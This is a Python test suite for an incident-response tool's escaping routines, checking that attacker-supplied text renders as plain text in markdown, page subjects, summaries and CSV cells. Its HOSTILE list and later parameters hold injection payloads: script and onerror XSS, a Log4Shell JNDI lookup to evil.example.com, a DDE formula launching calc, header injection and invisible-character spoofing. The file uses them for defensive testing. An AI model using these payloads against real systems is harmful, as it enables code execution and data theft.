"""Whatever an attacker writes, people see it as text and nothing else."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from responder.domain.escaping import ascii_line, csv_cell, markdown, one_line
from responder.domain.finding import Severity
from responder.domain.principal import Principal, PrincipalKind
from responder.domain.summary import summarise
from tests.builders import SHOP, a_finding, an_incident

HOSTILE = [
    "<script>alert(1)</script>",
    "[pay here](https://evil.example.com/)",
    "![x](https://evil.example.com/pixel.png)",
    "`code` ``more`` ```fence```",
    "</code></p><img src=x onerror=alert(1)>",
    "line one\nSubject: forged\r\n\r\nbody",
    "# heading\n- list\n> quote\n| a | b |",
    "https://evil.example.com www.evil.example.com a@evil.example.com",
    "user\u202egnp.exe",
    "zero\u200bwidth\ufeffmark",
    "bell\x07escape\x1b[31mred\x1b[0m",
    "&lt;b&gt; &amp; &#x3c;",
    "\\`*_{}[]()#+-.!|<>~\\",
    "",
    "   ",
    "🙂" * 2000,
    "e\u0301" * 500,
    "\ud800 lone surrogate",
    "${jndi:ldap://evil.example.com/a} {{7*7}} %n%s",
    "=cmd|' /C calc'!A0",
]


class _Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


def rendered(text: str) -> _Tags:
    """As a console that lets HTML through would show it: the worst case."""
    return _Tags(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_shows_hostile_text_as_it_is_and_makes_nothing_of_it(text: str) -> None:
    shown = markdown(text, 300)
    page = rendered(f"- **Finding:** {shown}\n")
    assert page.tags <= {"ul", "li", "strong", "code"}
    assert len(shown) <= 300
    expected = one_line(text, 298).replace("`", "'") or "(empty)"
    assert page.text.strip().removeprefix("Finding:").strip() == expected.strip()


@given(st.text(st.characters(exclude_categories=["Cs"])), st.integers(20, 400))
def test_no_text_gets_out_of_its_code_span_or_over_its_length(text: str, most: int) -> None:
    shown = markdown(text, most)
    assert len(shown) <= most
    assert "\n" not in shown
    assert rendered(f"- **x:** {shown}\n").tags <= {"ul", "li", "strong", "code"}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_page_subject_is_ascii_on_one_line_and_short(text: str) -> None:
    incident = an_incident(title=text, severity=Severity.CRITICAL)
    subject = summarise(incident, [], mode="monitor").subject
    assert subject.isascii()
    assert subject.isprintable()
    assert 0 < len(subject) < 100
    assert subject.startswith("[CRITICAL]")


def test_a_name_with_accents_keeps_its_letters_in_ascii() -> None:
    assert ascii_line("Zoë Müller", 100) == "Zoe Muller"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_summary_of_hostile_findings_fits_every_channel(text: str) -> None:
    named = Principal(kind=PrincipalKind.ASSUMED_ROLE, account=SHOP, arn=text or None, name=text)
    findings = [a_finding(title=text, type=text or "x", principals=(named,))] * 40
    summary = summarise(an_incident(title=text), findings, mode="respond")
    assert 0 < len(summary.as_markdown(2048)) <= 2048
    assert rendered(summary.as_markdown(2048)).tags <= {"ul", "li", "strong", "code"}
    assert 0 < len(summary.title) <= 200
    summary.text.encode("utf-8")
    # An attacker's line break would let him write a line of the page of his own.
    assert len(summary.text.splitlines()) == 2 + len(summary.lines)


@pytest.mark.parametrize(
    "unseen",
    [
        *"\x00\x1b\x7f\x85\u00ad\u061c\u180e\u200b\u202e\u2028\u2029\u206a\u2066\ufeff\ufff9",
        *"\u115f\u1160\u2800\u3164\uffa0",  # letters that show nothing
        "\U000e0041",  # a tag: an invisible A
        "\ue000",
        "\ud800",
    ],
)
def test_what_nobody_sees_is_a_space(unseen: str) -> None:
    assert one_line(f"user{unseen}name", 80) == "user name"
    assert one_line(unseen, 80) == ""


def test_a_tower_of_accents_is_cut_and_an_accent_is_not() -> None:
    assert one_line("a" + "\u0301" * 200, 300) == "a" + "\u0301" * 3
    assert one_line("Zoe\u0308 नमस्ते", 80) == "Zoe\u0308 नमस्ते"


def test_a_drill_is_marked_before_anything_else() -> None:
    summary = summarise(an_incident(drill=True), [a_finding()], mode="monitor")
    assert summary.title.startswith("DRILL: ")
    assert summary.lines[0] == ("Drill", "this is practice")


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r\n=1", " =1", "\u200b=1", "\uff1d1", "|cmd", "%x"],
)
def test_no_cell_of_a_spreadsheet_begins_a_formula(text: str) -> None:
    assert csv_cell(text)[0] == "'"


def test_a_cell_that_is_no_formula_stays_as_it_is() -> None:
    for text in ("", "inc-20261123-0a1b2c3d4e", "1,200; a=b", "Zoë"):
        assert csv_cell(text) == text
